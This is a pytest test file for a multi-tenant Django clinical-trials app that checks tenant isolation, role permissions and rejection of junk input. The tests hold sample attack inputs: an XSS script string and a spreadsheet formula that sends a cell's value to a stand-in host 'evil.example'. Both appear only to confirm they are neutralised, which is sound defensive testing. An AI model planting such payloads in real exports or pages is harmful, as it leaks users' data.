"""The trials tried as an attacker would: another tenant's ids, other roles' actions, junk in
every field, and the business rules pushed (never a 500, never a forbidden change)."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import tenant_context

from tenants.access.models import Role, RoleGrant, ScopeKind
from tenants.documents.models import Document
from tenants.trials import services
from tenants.trials.models import ClinicalEvaluation, TechnicalEvaluation, Trial, TrialDocument
from tests.conftest import client_for, host_of
from tests.tenants.trials.conftest import PDF, bring, pdf, trial_data

SCORES = ("ergonomics", "ease_of_use", "clinical_performance", "cleaning", "overall")
TECH = ("build_quality", "maintainability", "compatibility", "safety", "documentation", "overall")


def clinical(value: str = "4", **extra: str) -> dict[str, str]:
    return {"action": "clinical", **{f"clinical-{n}": value for n in SCORES}, **extra}


def technical(value: str = "4", **extra: str) -> dict[str, str]:
    return {"action": "technical", **{f"technical-{n}": value for n in TECH}, **extra}


@pytest.fixture
def more(tenant, chain, make_user, web):  # type: ignore[no-untyped-def]
    """Clients of roles the chain lacks: buyer, finance, viewer (whole tenant)."""
    extra = {}
    for name, role in (("buyer", Role.BUYER), ("finance", Role.FINANCE), ("viewer", Role.VIEWER)):
        person = make_user(tenant, full_name=name)
        with tenant_context(tenant):
            RoleGrant.objects.create(user=person, role=role, scope=ScopeKind.TENANT)
        extra[name] = client_for(host_of(tenant), person, tenant)
    return {**web, **extra}


def test_another_tenants_trial_is_not_found_on_any_url(tenant, other_tenant, make_user, trial):
    stranger = make_user(other_tenant)
    with tenant_context(other_tenant):
        RoleGrant.objects.create(user=stranger, role=Role.TENANT_ADMIN, scope=ScopeKind.TENANT)
    web = client_for(host_of(other_tenant), stranger, other_tenant)
    pk = trial.pk
    for url in (f"/trials/{pk}/", f"/trials/{pk}/edit/"):
        assert web.get(url).status_code == 404, url
    assert web.post(f"/trials/{pk}/act/", {"action": "agree", "version": "1"}).status_code == 404
    assert web.post(f"/documents/trial/{pk}/upload/", {"file": pdf()}).status_code == 404
    assert trial.reference not in web.get("/trials/").content.decode()
    with tenant_context(tenant):
        assert Trial.objects.get(pk=pk).state == "requested"


def test_a_user_of_one_tenant_is_nobody_on_anothers_host(chain, tenant, other_tenant, trial):
    outsider = client_for(host_of(other_tenant), chain["users"]["expert"], tenant)
    response = outsider.get(f"/trials/{trial.pk}/")
    assert response.status_code in (302, 404)
    response = outsider.post(f"/trials/{trial.pk}/act/", {"action": "agree", "version": "1"})
    assert response.status_code in (302, 403, 404)
    with tenant_context(tenant):
        assert Trial.objects.get(pk=trial.pk).state == "requested"


ACTIONS = ["agree", "refuse", "deliver", "start", "return", "buy", "cancel"]


@pytest.mark.parametrize(
    "who",
    [
        "requester",
        "pole_head",
        "other_head",
        "commission",
        "manager",
        "dispatcher",
        "imaging_expert",
        "buyer",
        "finance",
        "viewer",
    ],
)
def test_no_other_role_moves_edits_or_documents_a_trial(more, chain, trial, tenant, who):
    client = more[who]
    for action in ACTIONS:
        response = client.post(
            f"/trials/{trial.pk}/act/",
            {"action": action, "version": str(trial.version), f"{action}-reason": "x"},
        )
        assert response.status_code in (403, 404), (who, action, response.status_code)
    response = client.post(
        f"/trials/{trial.pk}/act/",
        {"action": "document", "document-kind": "loan_agreement", "document-file": pdf()},
    )
    assert response.status_code in (403, 404), (who, response.status_code)
    assert client.get(f"/trials/{trial.pk}/edit/").status_code in (403, 404)
    edited = client.post(
        f"/trials/{trial.pk}/edit/", {"device": "Piraté", "version": str(trial.version)}
    )
    assert edited.status_code in (400, 403, 404)
    if who != "imaging_expert":  # an expert: they run their own domain's trials
        assert client.get("/trials/new/").status_code in (403, 404)
    with tenant_context(tenant):
        fresh = Trial.objects.get(pk=trial.pk)
        assert (fresh.state, fresh.version, fresh.device) == ("requested", 1, trial.device)
        assert not TrialDocument.objects.exists()


@pytest.mark.parametrize("who", ["requester", "pole_head", "viewer", "finance"])
def test_a_person_who_only_sees_the_trial_adds_no_document_through_the_attachments(
    more, trial, tenant, who
):
    """The trial's page refuses them a document (only the biomedical team adds its
    documents): the generic attachments' URL must not let them add one either."""
    response = more[who].post(
        f"/documents/trial/{trial.pk}/upload/",
        {"file": SimpleUploadedFile("faux.pdf", PDF, content_type="application/pdf")},
    )
    assert response.status_code in (403, 404), (who, response.status_code)
    with tenant_context(tenant):
        assert not Document.objects.filter(object_id=trial.pk).exists()


def test_evaluations_only_by_their_people_and_only_once_tried(more, chain, trial, tenant):
    u = chain["users"]
    # Before the trial started: nobody evaluates.
    assert more["requester"].post(f"/trials/{trial.pk}/act/", clinical()).status_code == 409
    assert more["expert"].post(f"/trials/{trial.pk}/act/", technical()).status_code == 409
    with tenant_context(tenant):
        bring(trial, "delivered", u["expert"])
    assert more["requester"].post(f"/trials/{trial.pk}/act/", clinical()).status_code == 409
    assert more["expert"].post(f"/trials/{trial.pk}/act/", technical()).status_code == 409
    with tenant_context(tenant):
        services.change_state(trial, "start", by=u["expert"])
    # Clinical by the expert, technical by the requester, both by outsiders: refused.
    for who in ("expert", "imaging_expert", "commission", "other_head", "viewer", "buyer"):
        response = more[who].post(f"/trials/{trial.pk}/act/", clinical())
        assert response.status_code in (403, 404), (who, response.status_code)
    for who in ("requester", "pole_head", "imaging_expert", "commission", "admin", "viewer"):
        response = more[who].post(f"/trials/{trial.pk}/act/", technical())
        assert response.status_code in (403, 404), (who, response.status_code)
    with tenant_context(tenant):
        assert not ClinicalEvaluation.objects.exists()
        assert not TechnicalEvaluation.objects.exists()


@pytest.mark.parametrize(
    "value", ["0", "6", "-1", "NaN", "inf", "4.5", "1e1", "٣", "\x00", "9" * 5000, ""]
)
def test_scores_outside_1_to_5_are_refused(web, chain, trial, tenant, value):
    with tenant_context(tenant):
        bring(trial, "in_trial", chain["users"]["expert"])
    assert web["requester"].post(f"/trials/{trial.pk}/act/", clinical(value)).status_code == 400
    assert web["expert"].post(f"/trials/{trial.pk}/act/", technical(value)).status_code == 400
    with tenant_context(tenant):
        assert not ClinicalEvaluation.objects.exists()
        assert not TechnicalEvaluation.objects.exists()


def test_an_evaluator_changes_only_their_own_evaluation(web, chain, trial, tenant, make_user):
    """A second person of the UF evaluating never overwrites the first's, whatever is
    posted (an evaluator's id, an evaluation's id)."""
    with tenant_context(tenant):
        bring(trial, "in_trial", chain["users"]["expert"])
        second = make_user(tenant, full_name="second")
        RoleGrant.objects.create(
            user=second, role=Role.REQUESTER, scope=ScopeKind.UF, uf=chain["rea"]
        )
    assert web["requester"].post(f"/trials/{trial.pk}/act/", clinical("5")).status_code == 302
    with tenant_context(tenant):
        first = ClinicalEvaluation.objects.get()
    other = client_for(host_of(tenant), second, tenant)
    posted = clinical("1", evaluator=str(chain["users"]["requester"].pk), pk=str(first.pk))
    posted["clinical-evaluator"] = str(chain["users"]["requester"].pk)
    assert other.post(f"/trials/{trial.pk}/act/", posted).status_code == 302
    with tenant_context(tenant):
        first.refresh_from_db()
        assert first.overall == 5 and first.evaluator_id == chain["users"]["requester"].pk
        assert ClinicalEvaluation.objects.count() == 2


@pytest.mark.parametrize(
    "data",
    [
        {"action": "teleport", "version": "1"},
        {"action": "", "version": "1"},
        {"action": "\x00", "version": "1"},
        {"action": "x" * 1_000_000, "version": "1"},
        {"action": "deliver", "version": "1", "deliver-on": "31/02/2027"},
        {"action": "deliver", "version": "1", "deliver-on": "01/01/0000"},
        {"action": "deliver", "version": "1", "deliver-on": "31/12/9999"},
        {"action": "refuse", "version": "1", "refuse-reason": "\x00"},
        {"action": "refuse", "version": "1", "refuse-reason": "x" * 1_000_000},
        {"action": "agree", "version": "-1"},
        {"action": "agree", "version": "NaN"},
        {"action": "agree", "version": "1" * 50},
        {"action": "document", "document-kind": "insurance"},
        {"action": "document", "document-kind": "\x00"},
        {"action": "clinical"},
    ],
)
def test_junk_on_the_act_url_is_a_4xx_and_changes_nothing(web, trial, tenant, data):
    response = web["expert"].post(f"/trials/{trial.pk}/act/", data)
    assert 400 <= response.status_code < 500, response.status_code
    with tenant_context(tenant):
        assert Trial.objects.get(pk=trial.pk).version == 1


def test_repeated_params_and_a_date_in_9999_on_delivery(web, chain, trial, tenant):
    with tenant_context(tenant):
        trial = bring(trial, "agreed", chain["users"]["expert"])
        services.add_document(trial, pdf(), "loan_agreement", by=chain["users"]["expert"])
        services.add_document(trial, pdf("a.pdf"), "insurance", by=chain["users"]["expert"])
    response = web["expert"].post(
        f"/trials/{trial.pk}/act/?action=cancel",
        {"action": ["deliver", "cancel"], "version": [str(trial.version), "1"]},
    )
    assert response.status_code in (302, 400, 409)
    with tenant_context(tenant):
        fresh = Trial.objects.get(pk=trial.pk)
        assert fresh.state == "agreed"  # the last values: cancel, on version 1, stale


def test_no_delivery_with_the_wrong_documents(web, chain, trial, tenant, make_user):
    """Two documents of the wrong kind, a required one attached to another trial, one
    removed: the device is not delivered."""
    expert = chain["users"]["expert"]
    with tenant_context(tenant):
        trial = bring(trial, "agreed", expert)
        services.add_document(trial, pdf(), "other", by=expert)
        services.add_document(trial, pdf(), "other", by=expert)
        second = services.create_trial(trial_data(chain), by=expert)
        services.add_document(second, pdf(), "loan_agreement", by=expert)
        services.add_document(second, pdf(), "insurance", by=expert)
        services.add_document(trial, pdf(), "loan_agreement", by=expert)
        kept = services.add_document(trial, pdf(), "insurance", by=expert)
    # The insurance removed (as its uploader may): delivery is refused again.
    assert web["expert"].post(f"/documents/file/{kept.document.pk}/remove/").status_code == 302
    response = web["expert"].post(
        f"/trials/{trial.pk}/act/", {"action": "deliver", "version": str(trial.version)}
    )
    assert response.status_code == 409
    # A generic document without kind does not count either.
    web["expert"].post(f"/documents/trial/{trial.pk}/upload/", {"file": pdf("assurance.pdf")})
    response = web["expert"].post(
        f"/trials/{trial.pk}/act/", {"action": "deliver", "version": str(trial.version)}
    )
    assert response.status_code == 409
    with tenant_context(tenant):
        assert Trial.objects.get(pk=trial.pk).state == "agreed"


def test_the_edit_form_takes_no_other_tenants_or_forged_ids(web, chain, trial, tenant):
    from tests.tenants.trials.test_pages import form_data

    for changes in (
        {"expert": str(chain["users"]["requester"].pk)},  # not an expert
        {"expert": str(chain["users"]["imaging_expert"].pk)},  # another domain's
        {"domain": str(chain["imaging"].pk)},  # a domain that is not the manager's
        {"plan_line": "99999999"},
        {"uf": "1101\x00"},
        {"planned_start": "01/01/1999"},
        {"planned_return": "31/12/9999"},
        {"contact_email": "<script>@x"},
        {"device": "x" * 1_000_000},
    ):
        data = form_data(chain, version=str(trial.version), **changes)
        response = web["expert"].post(f"/trials/{trial.pk}/edit/", data)
        assert response.status_code in (400, 403), (changes, response.status_code)
    with tenant_context(tenant):
        assert Trial.objects.get(pk=trial.pk).version == 1


def test_script_in_text_is_escaped_on_the_pages(web, chain, tenant):
    script = "<script>alert(1)</script>"
    with tenant_context(tenant):
        trial = services.create_trial(
            trial_data(chain, device=script, manufacturer=script, purpose=script),
            by=chain["users"]["expert"],
        )
        trial = services.change_state(trial, "agree", by=chain["users"]["expert"])
    for url in (f"/trials/{trial.pk}/", "/trials/", f"/trials/{trial.pk}/edit/"):
        body = web["expert"].get(url).content.decode()
        assert script not in body, url


def test_formula_in_text_is_text_in_the_export(web, chain, tenant):
    from io import BytesIO

    from openpyxl import load_workbook

    from tests.tenants.tables.test_every_export import workbook_of

    formula = '=HYPERLINK("http://evil.example/"&A1,"x")'
    with tenant_context(tenant):
        services.create_trial(
            trial_data(chain, device=formula, manufacturer="+1+1"), by=chain["users"]["expert"]
        )
    response = web["expert"].get("/trials/", {"export": "xlsx"})
    sheet = load_workbook(BytesIO(workbook_of(response))).worksheets[0]
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert any(c.value == formula for c in cells)
    assert all(c.data_type != "f" for c in cells)


def test_the_required_documents_stay_once_the_device_is_delivered(web, chain, trial, tenant):
    """The loan agreement and the insurance certificate are what the delivery rested on:
    once the device is at the hospital, their uploader no longer takes them back (an "other"
    document still may be)."""
    expert = chain["users"]["expert"]
    with tenant_context(tenant):
        trial = bring(trial, "delivered", expert)
        other = services.add_document(trial, pdf("notice.pdf"), "other", by=expert)
        required = list(
            TrialDocument.objects.filter(trial=trial)
            .exclude(kind="other")
            .values_list("document_id", flat=True)
        )
    page = web["expert"].get(f"/trials/{trial.pk}/").content.decode()
    assert page.count("data-remove-document") == 1
    for pk in required:
        response = web["expert"].post(f"/documents/file/{pk}/remove/")
        assert response.status_code == 409, response.status_code
    assert web["expert"].post(f"/documents/file/{other.document.pk}/remove/").status_code == 302
    with tenant_context(tenant):
        assert TrialDocument.objects.filter(trial=trial).count() == 2
        assert not services.missing_documents(trial)


@pytest.mark.parametrize("action", ["deliver", "return"])
def test_a_delivery_or_return_dated_in_the_future_is_refused(web, chain, trial, tenant, action):
    """A device is not recorded as delivered, or back, on a day still to come (the loans
    between services refuse a return in the future the same way)."""
    import datetime

    from django.utils import timezone

    expert = chain["users"]["expert"]
    with tenant_context(tenant):
        trial = bring(trial, "agreed" if action == "deliver" else "in_trial", expert)
        if action == "deliver":
            services.add_document(trial, pdf(), "loan_agreement", by=expert)
            services.add_document(trial, pdf(), "insurance", by=expert)
            trial.refresh_from_db()
    later = (timezone.localdate() + datetime.timedelta(days=400)).strftime("%d/%m/%Y")
    response = web["expert"].post(
        f"/trials/{trial.pk}/act/",
        {"action": action, "version": str(trial.version), f"{action}-on": later},
    )
    assert response.status_code == 400, response.status_code
    with tenant_context(tenant):
        assert Trial.objects.get(pk=trial.pk).version == trial.version
